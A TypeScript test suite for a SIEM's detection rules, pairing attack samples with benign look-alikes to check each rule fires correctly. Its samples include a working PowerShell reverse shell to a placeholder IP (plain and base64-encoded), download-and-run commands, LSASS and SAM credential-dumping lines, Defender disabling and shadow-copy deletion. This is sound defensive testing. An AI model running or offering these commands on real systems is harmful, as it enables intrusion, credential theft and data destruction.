/**
 * Every rule EdgeSIEM ships (rules/) fires on an attack sample and stays quiet on a close benign one.
 * Events are built from raw records through the real ingest adapters, as agents and sensors send them.
 */

import { readdirSync, readFileSync } from "node:fs";
import { join, relative, resolve } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { compileRuleSet } from "../../../worker/detect/compile-rule-set.ts";
import { advanceCorrelations } from "../../../worker/detect/correlation/engine.ts";
import { simpleRuleId } from "../../../worker/detect/simple/rule-id.ts";
import type { RuleInfo, RuleSource } from "../../../worker/detect/types.ts";
import { readEvtx } from "../../../worker/formats/evtx/read-evtx.ts";
import { evtxEvent } from "../../../worker/formats/log-files/evtx-event.ts";
import { prepareRecord } from "../../../worker/ingest/prepare.ts";
import type { NormalisedEvent } from "../../../worker/model/event.ts";
import { mergePlaceholders } from "../../../worker/rules/list-placeholders.ts";
import { LOGSOURCES } from "../../../worker/rules/logsources.ts";
import { FIELD_MAP } from "../../../worker/sources/field-map.ts";
import { TECHNIQUE_CASES } from "./support/windows-technique-cases.ts";

const REPO = resolve(import.meta.dirname, "../../..");
const RULES = join(REPO, "rules");
const ATTACK_SAMPLES = resolve(REPO, "../shared/corpus/evtx-attack-samples");
const RECEIVED_AT = Date.UTC(2026, 10, 23, 12, 0, 0);

function yamlFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) return yamlFiles(path);
    return entry.name.endsWith(".yml") ? [path] : [];
  });
}

const sources: RuleSource[] = [
  ...yamlFiles(join(RULES, "sigma")).map(
    (path): RuleSource => ({
      origin: relative(REPO, path),
      kind: "sigma",
      text: readFileSync(path, "utf8"),
    }),
  ),
  { origin: "rules/simple.txt", kind: "simple", text: readFileSync(join(RULES, "simple.txt"), "utf8") },
];
// As deployed with no IP lists: `deny_ips` is defined and empty.
const ruleSet = compileRuleSet(sources, {
  logsources: LOGSOURCES,
  fieldMap: FIELD_MAP,
  placeholders: mergePlaceholders({}, []),
});

/** Every alerting rule (detections and correlations) that some test saw fire. */
const provenToFire = new Set<string>();

function idOf(title: string): string {
  const info = [...ruleSet.rules, ...ruleSet.correlations.map((c) => c.info)].find((rule) => rule.title === title);
  if (info === undefined) throw new Error(`no shipped rule is titled '${title}'`);
  return info.id;
}

function eventOf(record: unknown, index = 0): NormalisedEvent {
  const prepared = prepareRecord(record, index, RECEIVED_AT);
  if (!("event" in prepared)) expect.fail(`record rejected by ingest: ${prepared.error}`);
  return prepared.event;
}

/** The titles of the alerts the events raise: detection matches and correlation firings. */
function alerts(events: NormalisedEvent[]): string[] {
  const matches = ruleSet.matchAll(events);
  const inputs = matches.map((m) => ({
    ruleId: m.rule.id,
    ruleName: m.rule.name,
    event: events[m.eventIndex] as NormalisedEvent,
  }));
  const { firings } = advanceCorrelations(ruleSet.correlations, {}, inputs, FIELD_MAP);
  const raised = [
    ...matches.filter((m) => m.alert).map((m) => m.rule),
    ...firings.filter((f) => f.alert).map((f) => f.rule),
  ];
  for (const rule of raised) provenToFire.add(rule.id);
  return raised.map((rule) => rule.title);
}

function expectFires(title: string, events: NormalisedEvent[]): void {
  idOf(title);
  expect(alerts(events)).toContain(title);
}

function expectQuiet(title: string, events: NormalisedEvent[]): void {
  idOf(title);
  expect(alerts(events)).not.toContain(title);
}

// ---- record builders, in the shapes the sensors send ----

let clock = 0;
/** Distinct, increasing Windows event times so no two samples look like one event. */
function nextTime(): string {
  clock += 1;
  return new Date(Date.UTC(2026, 10, 23, 10, 0, clock)).toISOString();
}

interface Process {
  image: string;
  commandLine: string;
  parentImage?: string;
  parentCommandLine?: string;
  originalFileName?: string;
}

function sysmonProcess(p: Process): NormalisedEvent {
  return eventOf({
    Channel: "Microsoft-Windows-Sysmon/Operational",
    EventID: 1,
    Computer: "ws01.corp.example",
    UtcTime: nextTime().replace("T", " ").replace("Z", ""),
    Image: p.image,
    CommandLine: p.commandLine,
    OriginalFileName: p.originalFileName ?? p.image.split("\\").pop(),
    ParentImage: p.parentImage ?? "C:\\Windows\\explorer.exe",
    ParentCommandLine: p.parentCommandLine ?? "C:\\Windows\\Explorer.EXE",
    User: "CORP\\bob",
  });
}

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD = "C:\\Windows\\System32\\cmd.exe";

function powershell(commandLine: string, parent: Partial<Process> = {}): NormalisedEvent {
  return sysmonProcess({ image: POWERSHELL, commandLine, originalFileName: "PowerShell.EXE", ...parent });
}

function scriptBlock(text: string): NormalisedEvent {
  return eventOf({
    Channel: "Microsoft-Windows-PowerShell/Operational",
    EventID: 4104,
    Computer: "ws01.corp.example",
    TimeCreated: nextTime(),
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: text,
    ScriptBlockId: "8f6c3a52-93a1-4b5e-9a77-0f0c2f4e1d11",
    Path: "",
  });
}

function zeekHttp(uri: string, port: number): NormalisedEvent {
  return eventOf({
    _path: "http",
    ts: RECEIVED_AT / 1000 - 60,
    uid: "CHhAvVGS1DHFjwGM9",
    "id.orig_h": "10.0.0.23",
    "id.orig_p": 49732,
    "id.resp_h": "198.51.100.7",
    "id.resp_p": port,
    method: "GET",
    host: `198.51.100.7:${port}`,
    uri,
    user_agent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682",
    status_code: 200,
    resp_mime_types: ["text/plain"],
  });
}

function encoded(script: string): string {
  return Buffer.from(script, "utf16le").toString("base64");
}

/** sshd auth-log lines, one second apart from 06:54:00 on. */
function sshd(lines: string[], from = 0): NormalisedEvent[] {
  return lines.map((line, i) => {
    const s = from + i;
    const time = `06:${String(54 + Math.floor(s / 60)).padStart(2, "0")}:${String(s % 60).padStart(2, "0")}`;
    return eventOf({ message: `Nov 23 ${time} web1 sshd[${4000 + s}]: ${line}`, host: "web1" });
  });
}

const failures = (n: number, ip = "203.0.113.5") =>
  Array.from({ length: n }, (_, i) => `Failed password for root from ${ip} port ${50000 + i} ssh2`);

function logonFailure(user: string, ip: string, second: number): NormalisedEvent {
  return eventOf({
    Channel: "Security",
    EventID: 4625,
    Computer: "dc01.corp.example",
    TimeCreated: new Date(Date.UTC(2026, 10, 23, 11, 0, second)).toISOString(),
    TargetUserName: user,
    TargetDomainName: "CORP",
    LogonType: 3,
    Status: "0xc000006d",
    SubStatus: "0xc000006a",
    IpAddress: ip,
    IpPort: 51000 + second,
    WorkstationName: "KALI",
  });
}

// ---- the payloads ----

const NISHANG_SHELL =
  "$client = New-Object System.Net.Sockets.TCPClient('192.0.2.10',4444);$stream = $client.GetStream();" +
  "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;" +
  "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);" +
  "$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';" +
  "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);" +
  "$stream.Flush()};$client.Close()";

const PORT_CHECK =
  "$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('mail.corp.example', 25); $c.Connected; $c.Close()";

const SYSLOG_SENDER =
  "$c = New-Object System.Net.Sockets.TCPClient('logs.corp.example', 514); $s = $c.GetStream(); " +
  "$b = [Text.Encoding]::ASCII.GetBytes('backup done'); $s.Write($b, 0, $b.Length); $c.Close()";

describe("shipped rules", () => {
  it("all compile", () => {
    expect(ruleSet.errors).toEqual([]);
    expect(ruleSet.correlations.length).toBeGreaterThan(0);
  });

  describe("Zeek HTTP", () => {
    const title = "Batch Script Fetched Over HTTP From A Non-Standard Port";
    it("fires on a .bat or .cmd served from an unusual port", () => {
      expectFires(title, [zeekHttp("/stage2.bat", 8000)]);
      expectFires(title, [zeekHttp("/dl/run.CMD?id=4", 9001)]);
    });
    it("stays quiet for scripts from the web ports and for other files", () => {
      expectQuiet(title, [zeekHttp("/stage2.bat", 443), zeekHttp("/tools/setup.cmd", 8080)]);
      expectQuiet(title, [zeekHttp("/docs/batch-jobs.html", 8000)]);
    });
  });

  describe("PowerShell and batch files", () => {
    const fromBatch = "PowerShell Started By A Batch Script";
    it("fires on PowerShell started by cmd.exe running a .bat or .cmd", () => {
      const parent = { parentImage: CMD };
      expectFires(fromBatch, [
        powershell('powershell -nop -w hidden -c "iex (gc $env:TEMP\\p.txt -raw)"', {
          ...parent,
          parentCommandLine: 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Users\\bob\\AppData\\Local\\Temp\\update.bat" "',
        }),
      ]);
      expectFires(fromBatch, [
        powershell("powershell -ep bypass -f C:\\ProgramData\\s.ps1", {
          ...parent,
          parentCommandLine: "cmd /c C:\\ProgramData\\run.cmd",
        }),
      ]);
    });
    it("stays quiet for PowerShell started from an interactive cmd.exe", () => {
      expectQuiet(fromBatch, [
        powershell("powershell", { parentImage: CMD, parentCommandLine: '"C:\\Windows\\system32\\cmd.exe" ' }),
      ]);
    });

    const download = "PowerShell Downloads A Script Or Batch File";
    it("fires on PowerShell downloading a script", () => {
      expectFires(download, [
        powershell('powershell -c "Invoke-WebRequest -Uri http://198.51.100.7:8000/a.ps1 -OutFile $env:TEMP\\a.ps1"'),
      ]);
      expectFires(download, [
        powershell(
          "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/s.bat','C:\\Users\\Public\\s.bat')\"",
        ),
      ]);
      expectFires(download, [powershell("powershell iwr http://198.51.100.7/x.hta -o x.hta")]);
    });
    it("stays quiet for PowerShell downloading a document", () => {
      expectQuiet(download, [
        powershell(
          'powershell -c "Invoke-WebRequest -Uri https://intranet.corp.example/report.pdf -OutFile report.pdf"',
        ),
      ]);
    });

    const downloadBlock = "PowerShell Script Block Downloads A Script Or Batch File";
    it("fires on a script block downloading a script", () => {
      expectFires(downloadBlock, [
        scriptBlock("Start-BitsTransfer -Source http://198.51.100.7/y.hta -Destination $env:TEMP\\y.hta"),
      ]);
      expectFires(downloadBlock, [
        scriptBlock("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1')"),
      ]);
    });
    it("stays quiet for a script block downloading an installer", () => {
      expectQuiet(downloadBlock, [
        scriptBlock("Start-BitsTransfer -Source https://dl.corp.example/setup.msi -Destination C:\\temp\\setup.msi"),
      ]);
    });
  });

  describe("PowerShell reverse shells", () => {
    const commandLine = "PowerShell TCP Reverse Shell Command Line";
    it("fires on the one-liner, plain and as -EncodedCommand", () => {
      expectFires(commandLine, [powershell(`powershell -nop -c "${NISHANG_SHELL}"`)]);
      expectFires(commandLine, [powershell(`powershell.exe -nop -w hidden -EncodedCommand ${encoded(NISHANG_SHELL)}`)]);
      expectFires(commandLine, [
        powershell(`powershell -e ${encoded(NISHANG_SHELL.replace("TCPClient", "TcpClient"))}`),
      ]);
    });
    it("stays quiet for a TCP port check, plain or encoded", () => {
      expectQuiet(commandLine, [powershell(`powershell -c "${PORT_CHECK}"`)]);
      expectQuiet(commandLine, [powershell(`powershell -EncodedCommand ${encoded(PORT_CHECK)}`)]);
    });

    const block = "PowerShell TCP Reverse Shell Script Block";
    it("fires on the reverse shell in a script block", () => {
      expectFires(block, [scriptBlock(NISHANG_SHELL)]);
    });
    it("stays quiet for a script that only sends data over TCP", () => {
      expectQuiet(block, [scriptBlock(SYSLOG_SENDER)]);
    });
  });

  describe("Microsoft Defender", () => {
    const tampering = "Microsoft Defender Protection Disabled Or Excluded From The Command Line";
    it("fires on disabling protection, adding exclusions and stopping WinDefend", () => {
      expectFires(tampering, [powershell("powershell Set-MpPreference -DisableRealtimeMonitoring $true")]);
      expectFires(tampering, [powershell("powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public")]);
      expectFires(tampering, [
        sysmonProcess({ image: "C:\\Windows\\System32\\sc.exe", commandLine: "sc stop WinDefend" }),
      ]);
    });
    it("stays quiet when protection is switched back on or signatures are updated", () => {
      expectQuiet(tampering, [powershell("powershell Set-MpPreference -DisableRealtimeMonitoring $false")]);
      expectQuiet(tampering, [powershell("powershell Update-MpSignature")]);
    });

    const tamperingBlock = "Microsoft Defender Protection Disabled Or Excluded In A PowerShell Script";
    it("fires on a script block disabling protection", () => {
      expectFires(tamperingBlock, [scriptBlock("Set-MpPreference -DisableIOAVProtection:$true -Force")]);
      expectFires(tamperingBlock, [scriptBlock("Add-MpPreference -ExclusionExtension '.exe'")]);
    });
    it("stays quiet for a script block tuning signature updates", () => {
      expectQuiet(tamperingBlock, [scriptBlock("Set-MpPreference -SignatureUpdateInterval 4")]);
    });

    const statusCheck = "Microsoft Defender Status Or Settings Queried From The Command Line";
    it("fires on a Defender status query", () => {
      expectFires(statusCheck, [powershell('powershell -c "Get-MpComputerStatus | Select RealTimeProtectionEnabled"')]);
      expectFires(statusCheck, [
        sysmonProcess({ image: "C:\\Windows\\System32\\sc.exe", commandLine: "sc query WinDefend" }),
      ]);
    });
    it("stays quiet for other inventory commands", () => {
      expectQuiet(statusCheck, [powershell('powershell -c "Get-ComputerInfo | Select OsName"')]);
    });
  });

  describe("rundll32", () => {
    const title = "Renamed Rundll32 Runs A DLL Export";
    it("fires on rundll32 under another name, by PE name or by command line shape", () => {
      expectFires(title, [
        sysmonProcess({
          image: "C:\\Users\\Public\\svchost.exe",
          originalFileName: "RUNDLL32.EXE",
          commandLine: "svchost.exe C:\\Users\\Public\\beacon.dll,StartW",
        }),
      ]);
      expectFires(title, [
        sysmonProcess({
          image: "C:\\ProgramData\\updater.exe",
          commandLine: 'C:\\ProgramData\\updater.exe "C:\\ProgramData\\x.dll",#1',
        }),
      ]);
    });
    it("stays quiet for the real rundll32", () => {
      expectQuiet(title, [
        sysmonProcess({
          image: "C:\\Windows\\System32\\rundll32.exe",
          originalFileName: "RUNDLL32.EXE",
          commandLine: "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl",
        }),
      ]);
    });
  });

  describe("Windows techniques SigmaHQ's rules miss in the attack samples", () => {
    for (const { title, sample, fires, quiet } of TECHNIQUE_CASES) {
      it(`'${title}' fires on the attack record and not on a close benign one`, () => {
        expectFires(title, [eventOf({ Computer: "ws01.corp.example", TimeCreated: nextTime(), ...fires })]);
        expectQuiet(title, [eventOf({ Computer: "ws01.corp.example", TimeCreated: nextTime(), ...quiet })]);
      });
      it(`'${title}' fires on the real sample ${sample}`, () => {
        const records = readEvtx(readFileSync(join(ATTACK_SAMPLES, sample))).records.map(evtxEvent);
        expectFires(
          title,
          records.map((record, index) => eventOf(record, index)),
        );
      });
    }
  });

  describe("SSH brute force (correlations over the auth log)", () => {
    const bruteForce = "SSH Brute Force From One Source";
    const loginAfter = "Successful SSH Logon After A Brute Force From The Same Source";

    it("raises one brute-force alert for a burst of failures from one address", () => {
      const titles = alerts(sshd(failures(25)));
      expect(titles.filter((t) => t === bruteForce)).toHaveLength(1);
      expect(titles).not.toContain("SSH Logon Failure");
    });

    it("stays quiet for a few failures, or failures spread over many addresses", () => {
      expectQuiet(bruteForce, sshd(failures(9)));
      expectQuiet(
        bruteForce,
        sshd(Array.from({ length: 12 }, (_, i) => `Failed password for root from 198.51.100.${i + 1} port 40000 ssh2`)),
      );
    });

    it("raises a logon-after-brute-force alert when the same address then gets in", () => {
      const events = [
        ...sshd(failures(10)),
        ...sshd(["Accepted password for root from 203.0.113.5 port 50999 ssh2"], 120),
      ];
      expect(alerts(events)).toEqual([bruteForce, loginAfter]);
    });

    it("stays quiet for a logon from another address after a burst, and for a logon alone", () => {
      expectQuiet(loginAfter, [
        ...sshd(failures(10)),
        ...sshd(["Accepted publickey for deploy from 192.0.2.44 port 41000 ssh2: ED25519 SHA256:AbC"], 120),
      ]);
      expect(alerts(sshd(["Accepted password for alice from 203.0.113.5 port 50522 ssh2"]))).toEqual([]);
    });
  });

  describe("Windows logon failure bursts (correlations over 4625)", () => {
    const account = "Windows Logon Failures Against One Account From One Source";
    const spray = "Windows Logon Failures Across Many Accounts From One Source";

    it("fires on repeated failures for one account from one address", () => {
      const events = Array.from({ length: 10 }, (_, i) => logonFailure("administrator", "198.51.100.20", i * 5));
      const titles = alerts(events);
      expect(titles).toContain(account);
      expect(titles).not.toContain(spray);
      expect(titles).not.toContain("Windows Logon Failure");
    });

    it("fires on failures across many accounts from one address", () => {
      const events = Array.from({ length: 10 }, (_, i) => logonFailure(`user${i}`, "198.51.100.21", i * 5));
      const titles = alerts(events);
      expect(titles).toContain(spray);
      expect(titles).not.toContain(account);
    });

    it("stays quiet below the thresholds and across addresses", () => {
      expectQuiet(
        account,
        Array.from({ length: 9 }, (_, i) => logonFailure("administrator", "198.51.100.20", i)),
      );
      expectQuiet(
        account,
        Array.from({ length: 10 }, (_, i) => logonFailure("administrator", `198.51.100.${30 + i}`, i)),
      );
      expectQuiet(
        spray,
        Array.from({ length: 9 }, (_, i) => logonFailure(`user${i}`, "198.51.100.21", i)),
      );
    });
  });

  describe("simple rules", () => {
    const cases: [pattern: string, attack: string, benign: string][] = [
      ["whoami*/priv", "whoami /priv", "whoami"],
      ["nltest*/domain_trusts", "nltest /domain_trusts /all_trusts", "nltest /dsgetdc:corp.example"],
      ["net*group*domain admins", 'net group "Domain Admins" /domain', 'net localgroup "Remote Desktop Users"'],
      [
        "sekurlsa::",
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        "mimikatz.exe privilege::debug",
      ],
      [
        "comsvcs*minidump",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll,DllRegisterServer",
      ],
      ["reg*save*hklm\\sam", "reg save HKLM\\SAM C:\\temp\\sam.save", "reg query HKLM\\SAM"],
      ["wevtutil*cl*security", "wevtutil cl Security", "wevtutil qe Security /c:5"],
      [
        "certutil*-urlcache*http",
        "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
        "certutil -urlcache *",
      ],
      ["mshta*http", "mshta http://198.51.100.7/a.hta", "mshta C:\\Program Files\\App\\help.hta"],
      ["vssadmin*delete*shadows", "vssadmin delete shadows /all /quiet", "vssadmin list shadows"],
      ["bcdedit*recoveryenabled*no", "bcdedit /set {default} recoveryenabled No", "bcdedit /enum"],
    ];
    for (const [pattern, attack, benign] of cases) {
      it(`'${pattern}' fires on "${attack}" and not on "${benign}"`, () => {
        const rule = ruleSet.rules.find((r) => r.id === simpleRuleId(pattern));
        if (rule === undefined) expect.fail(`no simple rule for '${pattern}'`);
        const event = (commandLine: string) => sysmonProcess({ image: "C:\\Windows\\System32\\x.exe", commandLine });
        expectFires(rule.title, [event(attack)]);
        expectQuiet(rule.title, [event(benign)]);
      });
    }

    it("'.exe*.dll,%rundll32' fires on a DLL export run by another program, not by rundll32", () => {
      const title = "DLL export called by a program other than rundll32";
      expectFires(title, [
        sysmonProcess({
          image: "C:\\Users\\Public\\svc.exe",
          commandLine: "C:\\Users\\Public\\svc.exe C:\\Users\\Public\\b.dll,StartW",
        }),
      ]);
      expectQuiet(title, [
        sysmonProcess({
          image: "C:\\Windows\\System32\\rundll32.exe",
          commandLine: "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
        }),
      ]);
    });
  });

  describe("Falco alerts, raised at Falco's priority", () => {
    function falcoAlert(priority: string): NormalisedEvent {
      const prepared = prepareRecord(
        {
          time: nextTime(),
          hostname: "k8s-node-1",
          priority,
          rule: "Terminal shell in container",
          output: `${priority} A shell was spawned in a container (user=root shell=bash)`,
          output_fields: { "proc.cmdline": "bash -il", "user.name": "root" },
        },
        0,
        RECEIVED_AT,
        "falco",
      );
      if (!("event" in prepared)) expect.fail(`falco alert rejected by ingest: ${prepared.error}`);
      return prepared.event;
    }
    const bands: [string, string[]][] = [
      ["Falco Critical Priority Alert", ["Emergency", "Alert", "Critical"]],
      ["Falco Error Priority Alert", ["Error"]],
      ["Falco Warning Priority Alert", ["Warning"]],
      ["Falco Notice Priority Alert", ["Notice", "Informational"]],
      ["Falco Debug Priority Alert", ["Debug"]],
    ];
    for (const [title, priorities] of bands) {
      it(`'${title}' fires on priority ${priorities.join(", ")} and on no other`, () => {
        for (const priority of priorities) expect(alerts([falcoAlert(priority)])).toEqual([title]);
        const others = bands.flatMap(([, p]) => p).filter((p) => !priorities.includes(p));
        for (const priority of others) expectQuiet(title, [falcoAlert(priority)]);
      });
    }
  });

  describe("deny-list rules", () => {
    const DENY = [
      "Network Connection To Or From A Deny-Listed Address (Sysmon)",
      "Network Connection To Or From A Deny-Listed Address (Zeek)",
      "SSH Connection From A Deny-Listed Address",
    ];
    const listed = compileRuleSet(sources, {
      logsources: LOGSOURCES,
      fieldMap: FIELD_MAP,
      placeholders: mergePlaceholders({}, [{ name: "deny_ips", entries: ["203.0.113.0/24", "2001:db8::1"] }]),
    });
    function denyAlerts(events: NormalisedEvent[]): string[] {
      const raised = listed.matchAll(events).flatMap((m) => (m.alert ? [m.rule] : []));
      for (const rule of raised) provenToFire.add(rule.id);
      return raised.map((rule) => rule.title).filter((title) => DENY.includes(title));
    }
    const sysmonConnection = (source: string, destination: string) =>
      eventOf({
        Channel: "Microsoft-Windows-Sysmon/Operational",
        EventID: 3,
        Computer: "ws01.corp.example",
        UtcTime: nextTime().replace("T", " ").replace("Z", ""),
        Image: "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
        Protocol: "tcp",
        SourceIp: source,
        SourcePort: 49_812,
        DestinationIp: destination,
        DestinationPort: 443,
      });
    const zeekConnection = (originator: string, responder: string) =>
      eventOf({
        _path: "conn",
        ts: 1_795_000_000,
        uid: "Cx1",
        "id.orig_h": originator,
        "id.orig_p": 50_000,
        "id.resp_h": responder,
        "id.resp_p": 443,
        proto: "tcp",
      });

    it("fire on a listed address in Sysmon 3, Zeek conn and sshd, either direction", () => {
      expect(denyAlerts([sysmonConnection("10.0.0.5", "203.0.113.9")])).toEqual([DENY[0]]);
      expect(denyAlerts([sysmonConnection("2001:db8::1", "10.0.0.5")])).toEqual([DENY[0]]);
      expect(denyAlerts([zeekConnection("10.0.0.5", "203.0.113.77")])).toEqual([DENY[1]]);
      expect(denyAlerts([zeekConnection("203.0.113.77", "10.0.0.5")])).toEqual([DENY[1]]);
      expect(denyAlerts(sshd(["Failed password for root from 203.0.113.4 port 50000 ssh2"]))).toEqual([DENY[2]]);
    });

    it("stay quiet for unlisted addresses, and for every address while the list is empty", () => {
      expect(
        denyAlerts([sysmonConnection("10.0.0.5", "198.51.100.9"), zeekConnection("10.0.0.5", "198.51.100.9")]),
      ).toEqual([]);
      for (const title of DENY)
        expectQuiet(title, [sysmonConnection("10.0.0.5", "203.0.113.9"), zeekConnection("10.0.0.5", "203.0.113.9")]);
    });
  });

  afterAll(() => {
    const alerting = [...ruleSet.rules, ...ruleSet.correlations.map((c) => c.info)].filter((rule) => !feedsOnly(rule));
    const untested = alerting.filter((rule) => !provenToFire.has(rule.id)).map((rule) => rule.title);
    expect(untested).toEqual([]);
  });
});

/** Rules and correlations named by a correlation that does not `generate` never alert on their own. */
function feedsOnly(rule: RuleInfo): boolean {
  const refs = rule.name === null ? [rule.id] : [rule.id, rule.name];
  return ruleSet.correlations.some((c) => !c.generate && c.rules.some((ref) => refs.includes(ref)));
}
